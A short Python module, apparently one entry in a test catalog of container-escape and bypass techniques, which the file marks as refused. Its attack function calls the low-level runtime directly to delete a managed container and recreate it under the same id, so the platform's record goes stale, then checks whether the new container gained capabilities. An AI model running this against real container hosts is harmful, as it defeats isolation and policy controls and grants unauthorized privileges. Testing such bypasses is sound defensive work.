"""The container is replaced by another of its id, made with the low-level runtime alone: the record of the first one is not this one's."""

import json

from bypass import refused

SOURCE = "idea"
WAY = "state"
STOPPED = refused("state")


def attack(t):
    t.up()
    low = "/usr/bin/%s --root /run/bare" % t.low
    t.write(t.bundle + "/config.json", json.dumps(t.spec))
    t.sh("(%s delete --force %s; %s create --bundle %s %s; %s start %s) < /dev/null > /dev/null 2>&1" % (low, t.id, low, t.bundle, t.id, low, t.id))
    return int(t.exec("grep CapBnd /proc/self/status").split()[-1], 16) and "a container with capabilities"
